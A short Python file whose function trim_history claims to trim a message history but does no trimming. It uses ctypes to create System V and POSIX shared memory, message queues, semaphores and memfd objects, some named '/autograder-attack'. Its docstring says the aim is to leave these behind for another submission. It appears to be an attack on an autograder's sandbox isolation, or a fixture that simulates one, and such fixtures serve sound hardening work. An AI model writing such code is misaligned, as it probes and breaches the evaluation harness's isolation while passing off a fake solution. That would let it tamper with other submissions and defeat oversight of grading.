"""Leaves shared memory, message queues and keys behind for another submission."""

import ctypes


def trim_history(messages, max_messages=10, head=2):
    library = ctypes.CDLL(None)
    for name, arguments in (
        ("shmget", (4711, 4096, 0o1666)),
        ("msgget", (4711, 0o1666)),
        ("semget", (4711, 1, 0o1666)),
        ("memfd_create", (b"attack", 0)),
        ("shm_open", (b"/autograder-attack", 0o102, 0o666)),
        ("mq_open", (b"/autograder-attack", 0o102, 0o666, None)),
    ):
        if getattr(library, name)(*arguments) >= 0:
            raise SystemExit(name)

    return {"messages": list(messages), "dropped": 0}
